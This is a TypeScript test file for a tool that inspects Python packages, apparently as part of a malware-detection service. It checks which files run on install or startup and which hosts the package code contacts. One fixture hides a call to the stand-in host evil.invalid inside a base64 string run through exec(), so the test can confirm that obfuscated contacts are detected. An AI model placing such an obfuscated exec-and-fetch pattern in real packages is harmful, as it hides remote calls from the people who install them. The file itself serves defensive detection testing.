/** What a package runs without being asked to, and whom its code names. */
import assert from 'node:assert/strict';
import { contactsOf } from '../../../server/core/hidden-code/contacts.ts';
import { whatRuns } from '../../../server/core/hidden-code/what-runs.ts';
import { toolsWith } from '../../../server/io/packages/tools.ts';
import { inspectSample, sampleFiles } from '../../support/sample-package.ts';

describe('what runs', () => {
  it('tells installing, starting and importing apart', () => {
    const found = whatRuns(
      sampleFiles({
        'setup.py': 'from setuptools import setup\nsetup()\n',
        'pyproject.toml': '[build-system]\nbuild-backend = "build"\nbackend-path = ["backend"]\n',
        'backend/build.py': 'def build_wheel(directory):\n    pass\n',
        'a/build.py': 'def run():\n    pass\n',
        'a/__init__.py': '',
        'a/core.py': '',
        'tests/test_a.py': '',
        'paths.pth': 'a\n',
        'hook.pth': 'import a\n',
        'a.start': 'a:go\n',
        'README.md': '',
      }),
    );
    assert.deepEqual(found, {
      install: ['setup.py', 'backend/build.py'],
      startup: ['hook.pth', 'a.start'],
      import: 3,
    });
  });
});

describe('contacts', () => {
  const contacts = async (files: Readonly<Record<string, string>>) => {
    const inspection = await inspectSample({ files });
    return (await contactsOf(sampleFiles(files), inspection, toolsWith(null))).map(
      ({ host, file, line, isHidden }) => `${host} ${file}:${line}${isHidden ? ' hidden' : ''}`,
    );
  };

  it('names hosts out of texts, not out of comments, docstrings or tests', async () => {
    assert.deepEqual(
      await contacts({
        'a.py':
          '"""See https://docs.invalid/"""\n# https://comment.invalid/\nURL = "https://Api.Example.org:8443/v1"\nB = b"wss://u:p@socket.example.org"\n',
        'tests/test_a.py': 'URL = "https://test.invalid"\n',
        'b.py': 'X = "https://api.example.org:8443/again", "ftp://203.0.113.9/x"\n',
      }),
      ['api.example.org:8443 a.py:3', 'socket.example.org a.py:4', '203.0.113.9 b.py:1'],
    );
  });

  it('finds those that only show once they are decoded', async () => {
    const payload = Buffer.from('get("https://evil.invalid/x")').toString('base64');
    assert.deepEqual(await contacts({ 'a.py': `import base64\nexec(base64.b64decode('${payload}'))\n` }), [
      'evil.invalid a.py:null hidden',
    ]);
  });

  it('is not slowed down by texts without end', async () => {
    const started = performance.now();
    await contacts({
      'a.py': `X = "${'https://'.repeat(50_000)}"\nY = "${'a'.repeat(400_000)}://${'@'.repeat(1000)}"\n`,
    });
    assert.ok(performance.now() - started < 5_000);
  });
});
